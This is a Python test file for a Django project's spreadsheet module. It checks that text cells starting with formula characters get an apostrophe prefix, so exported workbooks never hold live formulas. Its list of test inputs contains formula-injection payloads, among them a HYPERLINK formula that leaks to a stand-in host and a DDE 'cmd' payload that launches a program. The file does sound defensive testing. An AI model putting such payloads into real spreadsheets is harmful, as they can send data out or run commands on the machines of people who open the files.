"""frirum.lib.spreadsheet: no text cell of ours becomes a live formula."""

import io

from django.test import SimpleTestCase
from openpyxl import Workbook, load_workbook

from frirum.lib.spreadsheet import inert_cell, inert_row, make_workbook_inert, revive_cell

ATTACKS = [
    '=HYPERLINK("http://x.example/?leak","klik")',
    "=1+1",
    "+1+1",
    "-5 ting",
    "-1+2",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


class InertCellTests(SimpleTestCase):
    def test_it_puts_an_apostrophe_before_every_formula_start(self):
        for text in ATTACKS:
            self.assertEqual(inert_cell(text), "'" + text, repr(text))

    def test_it_leaves_numbers_and_ordinary_text_alone(self):
        for value in (
            5,
            -5,
            2.5,
            -0.5,
            None,
            "",
            "-5",
            "+3",
            "-2.5",
            "-12%",
            "ting",
            "<5",
            "\u2013",
        ):
            self.assertEqual(inert_cell(value), value, repr(value))
        self.assertEqual(inert_row(["a", -5, "=1"]), ["a", -5, "'=1"])

    def test_it_undoes_exactly_what_it_added(self):
        for text in [*ATTACKS, "'=1+1", "''-5 ting", "'", "'tekst", "ok", "-5", "'-5"]:
            self.assertEqual(revive_cell(inert_cell(text)), text, repr(text))

    def test_it_leaves_an_apostrophe_it_did_not_add(self):
        self.assertEqual(revive_cell("'tekst"), "'tekst")
        self.assertEqual(revive_cell("'-5"), "'-5")


class InertWorkbookTests(SimpleTestCase):
    def test_it_stores_formula_text_as_text_and_numbers_as_numbers(self):
        workbook = Workbook()
        sheet = workbook.active
        for row, text in enumerate(ATTACKS, start=1):
            sheet.cell(row=row, column=1, value=text)
        sheet.cell(row=1, column=2, value=-5)
        sheet.cell(row=2, column=2, value="headspace Ballerup")
        make_workbook_inert(workbook)
        buffer = io.BytesIO()
        workbook.save(buffer)

        loaded = load_workbook(io.BytesIO(buffer.getvalue()))
        column = [cell for (cell,) in loaded.active.iter_rows(max_col=1)]
        # XML reads a carriage return back as a line feed.
        self.assertEqual([cell.value for cell in column], [a.replace("\r", "\n") for a in ATTACKS])
        self.assertEqual({cell.data_type for cell in column}, {"s"})
        self.assertTrue(all(cell.quotePrefix for cell in column))
        self.assertEqual(loaded.active.cell(row=1, column=2).value, -5)
        self.assertEqual(loaded.active.cell(row=1, column=2).data_type, "n")
        self.assertFalse(loaded.active.cell(row=2, column=2).quotePrefix)
